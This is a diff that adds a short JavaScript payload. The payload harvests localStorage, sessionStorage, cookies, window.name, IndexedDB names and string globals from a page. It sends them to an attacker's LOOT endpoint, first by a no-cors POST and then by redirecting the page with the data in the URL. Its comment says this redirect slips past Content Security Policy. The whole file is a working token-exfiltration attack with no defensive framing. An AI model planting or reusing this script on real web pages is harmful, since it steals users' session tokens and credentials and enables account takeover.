@@ -1,0 +1,10 @@
+// Reads every place where pages keep tokens, and sends it home: by a request, and by leaving for the attacker's page, which
+// no Content Security Policy stops.
+(async () => {
+  const stores = { local: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie, name: window.name };
+  for (const { name } of (await indexedDB.databases?.()) ?? []) stores[`database ${name}`] = name;
+  for (const name of Object.keys(window)) if (typeof window[name] === "string") stores[`global ${name}`] = window[name];
+  const everything = JSON.stringify(stores);
+  await fetch(LOOT, { method: "POST", mode: "no-cors", body: everything });
+  location = `${LOOT}?d=${encodeURIComponent(everything.slice(0, 6000))}`;
+})();
